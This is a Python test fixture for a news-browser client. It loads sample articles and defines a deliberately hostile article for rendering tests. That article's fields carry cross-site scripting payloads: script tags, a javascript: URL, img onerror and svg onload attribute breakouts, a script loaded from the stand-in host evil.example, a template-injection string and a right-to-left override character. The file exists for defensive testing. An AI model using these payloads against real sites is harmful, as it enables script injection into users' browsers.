"""Invented articles that the browser's tests publish."""

import json
from pathlib import Path
from typing import Any

from services.client import inputs
from services.client.demonstration import SAMPLES

Article = dict[str, Any]
_LINES = (Path(__file__).parent / "articles.jsonl").read_text(encoding="utf-8").splitlines()
FIRE, COPY, OTHER_FIGURE, LATER, *PLEDGES = (dict[str, Any](json.loads(line)) for line in _LINES)
"""A first report; the same agency text elsewhere; another outlet's own report with another figure;
another matter; two reports on who promised what."""

RUNS = "window.hacked = true"
_SHOWN = f"<script>{RUNS}</script> {{}}exe.gpj {{{{{{{{ 7 * 7 }}}}}}}} <b>bold</b>"
HOSTILE_TITLE = _SHOWN.format("[RLO]")
"""How the headline must show."""
HOSTILE: Article = {
    "id": "hostile-1",
    "language": "en",
    "published_at": "2026-03-18T09:00:00+00:00",
    "url": f"javascript:{RUNS}",
    "outlet": f"\"><img src=x onerror='{RUNS}'>",
    "headline": _SHOWN.format("\u202e") + " " + "W" * 70,
    "body": f"<svg onload='{RUNS}'> Ferries on Lake Garda stopped. \u202eEverything here reads backwards.\n\n"
    f"\"</mark><script src='https://evil.example/x.js'></script>\" said </title><script>{RUNS}</script>.\n\n"
    f"https://evil.example/{'y' * 300}",
}
"""A text that tries to run, to turn the page around, to break out of attributes and out of the layout."""


def samples() -> list[bytes]:
    """The sample articles, as they go onto the bus."""
    return [line.value for line in inputs.read([str(SAMPLES)])]
